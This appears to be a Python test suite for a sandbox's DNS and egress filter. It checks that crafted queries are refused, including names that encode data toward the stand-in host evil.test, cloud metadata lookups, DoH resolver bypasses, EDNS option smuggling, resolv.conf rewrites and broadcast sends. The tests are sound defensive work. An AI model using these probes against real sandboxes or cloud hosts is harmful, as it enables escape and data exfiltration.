#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Questions for names: what is asked outside, what the sandbox is told, and what it makes of names that are none."""
import sys

sys.dont_write_bytecode = True
from cases import main  # noqa: E402
from egress_test import NOTHING, Egress, domain, network  # noqa: E402
from internet import GOOD, OTHER  # noqa: E402

QUERIES = r"""
def query(*labels, kind=1, count=1, more=b"", to="127.0.0.53", over=socket.SOCK_DGRAM):
    # the answer as it is written; more: behind the question
    s = socket.socket(socket.AF_INET, over)
    s.settimeout(20)
    s.connect((to, 53))
    question = b"".join(bytes([len(l)]) + l for l in labels) + b"\0" + struct.pack(">2H", kind, 1)
    s.send(struct.pack(">6H", 7, 256, count, 0, 0, len(more) > 0) + question * count + more)
    return s.recv(4096)
def code(*labels, **more):
    return query(*labels, **more)[3] & 15
GOOD = b"api", b"good", b"test"
"""


class Questions(Egress):
    def inside(self, code, *options, **more):
        return self.python(QUERIES + (code if "print" in code else f"print(json.dumps({code}))"), *options, **more)

    def queries(self):
        return self.came_in()["queries"]

    def test_a14_b16_names_of_no_domain_and_of_the_machine(self):
        names = ["api", "router", "host.docker.internal", "host.sandbox.internal", "gateway.docker.internal"]
        self.assertEqual(self.inside(f"[[look(n) for n in {names}], 'search' in open('/etc/resolv.conf').read()]"),
                         [["NONAME"] * 5, False])
        self.assertEqual(self.queries(), [])

    def test_a20_a23_a24_a27_what_is_no_name(self):
        """Below a wildcard: the end of a name is not enough."""
        labels = [b"a@b", b"a/b", b"a\\b", b"a b", b"a%b", b"[a]", b"a:b", b"a\0", b"a\r\nb", b"a.b", b"fe80::1%eth0", b"\xff"]
        found = self.inside(f"[code(l, b'pkg', b'test') for l in {labels}]", allow="*.pkg.test")
        for label, became in zip(labels, found):
            with self.subTest(label):
                self.assertIn(became, (1, 3))
        self.assertEqual(self.came_in(), NOTHING)

    def test_a21_a22_letters_and_digits_that_are_not_ascii(self):
        found = self.inside("[look('\\u0430pi.good.test'), by_name('127\\u30020\\u30020\\u30021', 1), by_name('\\u2460\\u2461\\u2466.0.0.1', 1)]",
                            allow="api.good.test")
        self.assertEqual(found, ["NONAME", "ECONNREFUSED", "ECONNREFUSED"])
        self.assertEqual(self.came_in(), NOTHING)

    def test_a25_too_long(self):
        found = self.inside("[code(b'a' * 63, b'pkg', b'test'), code(b'a' * 64, b'pkg', b'test'), code(*[b'a' * 62] * 4, b'pkg', b'test'),"
                            "code(*[b'a'] * 130, b'pkg', b'test')]", allow="*.pkg.test")
        self.assertEqual((found[0], [1 if c in (1, 3) else c for c in found[1:]]), (3, [1, 1, 1]))
        self.assertEqual(self.queries(), ["a" * 63 + ".pkg.test"])

    def test_a26_underscores_are_letters_of_names(self):
        self.assertEqual(self.inside("by_name('_dmarc.pkg.test')", allow="*.pkg.test"), "ok")

    def test_b4_numbers_are_no_names(self):
        found = self.inside("[code(*l.split(b'.')) for l in (b'2130706433', b'0x7f.1', b'0177.0.0.1', b'127.1')]",
                            *self.policy(domain("*")))
        self.assertEqual(found, [3] * 4)
        self.assertEqual(self.queries(), [])

    def test_b9_names_of_metadata_services(self):
        found = self.inside("[look('metadata.google.internal'), look('instance-data'), became('169.254.169.254')]",
                            *self.policy(default="allow"))
        self.assertEqual(found, ["NONAME", "NONAME", "EACCES"])
        self.assertEqual(self.came_in(), NOTHING)

    def test_b15_addresses_of_our_own_have_port_53_alone(self):
        code = """
import subprocess
router = subprocess.run(["ip", "route"], capture_output=True, check=True, text=True).stdout.split()[2]
print(json.dumps([became("127.0.0.53", 80), became(router, 80), became(router, 22), query(*GOOD, to=router)[-4:] != b""]))
"""
        self.assertEqual(self.inside(code, *self.policy({"to": "any"})), ["ECONNREFUSED", "EACCES", "EACCES", True])
        self.assertEqual(self.came_in()["connections"], [])

    def test_d1_data_in_names_goes_nowhere(self):
        found = self.inside("[look(n + '.t.evil.test') for n in ('mzxw6ytboi', 'a.b.c', 'x' * 60)]")
        self.assertEqual(found, ["NONAME"] * 3)
        self.assertEqual(self.came_in(), NOTHING)
        self.assertEqual([d["reason"] for d in self.decisions("dns")], ["dns_name"] * 3)

    def test_d2_below_a_wildcard_names_are_counted(self):
        rules = self.policy(domain("*.pkg.test"), dns={"max_unique_names": 5})
        self.inside("[look('n%d.pkg.test' % n) for n in range(20)]", *rules)
        self.assertEqual(len(set(self.queries())), 5)
        self.assertEqual(self.decisions("dns")[-1]["reason"], "limit:dns_names")

    def test_d4_d6_other_ways_to_resolvers(self):
        found = self.inside("[by_name('api.good.test', 853), by_name('api.good.test'), look('dns.google'), "
                            "look('cloudflare-dns.com'), became('8.8.8.8', 443), became('1.1.1.1', 443)]",
                            *self.policy(default="allow"))
        self.assertEqual(found, ["EACCES", "ok", "NONAME", "NONAME", "EACCES", "EACCES"])
        self.expect_connections([f"{GOOD}:80"])
        self.assertEqual([d["reason"] for d in self.decisions("connect") if d["decision"] == "deny"],
                         ["proto"] + ["rule:builtin:doh-resolvers"] * 2)

    def test_d4_a_name_with_a_rule_for_it(self):
        self.assertEqual(self.inside("by_name('api.good.test', 853)", allow="api.good.test:853"), "ECONNREFUSED")
        self.assertEqual(self.inside("by_name('api.good.test', 853)", allow="api.good.test:443"), "EACCES")

    def test_d7_d18_types_that_are_not_for_programs(self):
        kinds = [2, 6, 10, 12, 15, 16, 33, 252, 255]
        found = self.inside(f"[[code(*GOOD, kind=k), int.from_bytes(query(*GOOD, kind=k)[6:8], 'big')] for k in {kinds}] + "
                            "[code(b'1', b'0', b'0', b'10', b'in-addr', b'arpa', kind=12)]")
        self.assertEqual(found, [[0, 0]] * len(kinds) + [3])
        self.assertEqual(self.queries(), [])

    def test_d8_two_questions(self):
        self.assertEqual(self.inside("code(*GOOD, count=2)"), 1)
        self.assertEqual(self.queries(), [])

    def test_d9_d10_only_the_name_goes_out(self):
        """In one form, and none of the options of EDNS."""
        code = """
options = b"".join(struct.pack(">2H", kind, len(data)) + data for kind, data in
                   ((8, b"\\0\\1\\x20\\0smug"), (10, b"cookiesmug"), (12, b"smug" * 9), (65001, b"smug")))
opt = b"\\0" + struct.pack(">HHIH", 41, 65535, 0, len(options)) + options
a = query(b"aPi", b"GOOD", b"tEst", more=opt)
print(json.dumps([a[3] & 15, a[13:26].decode(), socket.inet_ntoa(a[a.index(b"\\xc0\\x0c") + 12:][:4]), b"smug" in a]))
"""
        before = len(network().asked())
        self.assertEqual(self.inside(code), [0, "aPi\4GOOD\4tEst", GOOD, False])
        asked = network().asked()[before:]
        self.assertEqual(len(asked), 1)
        self.assertIn(b"\3api\4good\4test\0", asked[0].lower())
        self.assertNotIn(b"smug", asked[0])

    def test_d11_a_time_to_live_has_bounds(self):
        found = self.inside("int.from_bytes(query(b'moves', b'good', b'test')[-10:-6], 'big')")
        self.assertTrue(30 <= found <= 300, found)

    def test_d12_d13_an_address_from_long_ago_still_leads_to_its_name(self):
        found = self.inside(f"[look('moves2.good.test'), became('{GOOD}'), became('{GOOD}')]")
        self.assertEqual(found, [[GOOD], "ok", "ok"])
        self.expect_connections([f"{OTHER}:80"] * 2)

    def test_d15_d19_answers_that_are_none_and_answers_that_are_cut(self):
        found = self.inside("[look('garbage.good.test'), look('broken.good.test'), look('cut.good.test')]")
        self.assertEqual(found, ["AGAIN", "AGAIN", [GOOD]])

    def test_d16_names_are_looked_up_when_they_are_used(self):
        self.assertEqual(self.inside("1", allow="api.good.test"), 1)
        self.assertEqual(self.queries(), [])

    def test_d20_another_resolv_conf(self):
        code = """
with open("/etc/resolv.conf", "w") as f:
    f.write("nameserver 45.33.32.66\\n")
print(json.dumps([look("api.good.test"), look("evil.test")]))
"""
        self.assertEqual(self.inside(code, "--user", "root", "--allow", "api.good.test"), [[GOOD], "NONAME"])
        self.assertEqual((self.queries(), self.came_in()["datagrams"]), (["api.good.test"], 0))

    def test_b13_d17_nothing_is_sent_to_groups(self):
        code = """
def sent(to, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    try:
        return s.sendto(b"who is there", (to, port))
    except OSError as e:
        return errno.errorcode[e.errno]
def joined():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        return s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton("224.0.0.251") + bytes(4))
    except OSError as e:
        return errno.errorcode[e.errno]
print(json.dumps([joined()] + [sent(*to) for to in (("224.0.0.251", 5353), ("224.0.0.252", 5355), ("10.0.2.255", 137),
                                                    ("255.255.255.255", 67))]))
"""
        with open("/proc/self/net/igmp", encoding="utf-8") as f:
            before = f.read()
        found = self.inside(code, *self.policy({"to": "any"}))
        self.assertEqual([isinstance(f, str) for f in found[1:3] + found[4:]], [True] * 3, found)
        self.assertLessEqual({d["decision"] for d in self.decisions("connect")}, {"deny"})
        with open("/proc/self/net/igmp", encoding="utf-8") as f:
            self.assertEqual(f.read(), before)
        self.assertEqual(self.came_in(), NOTHING)


if __name__ == "__main__":
    main(sys.modules["__main__"])
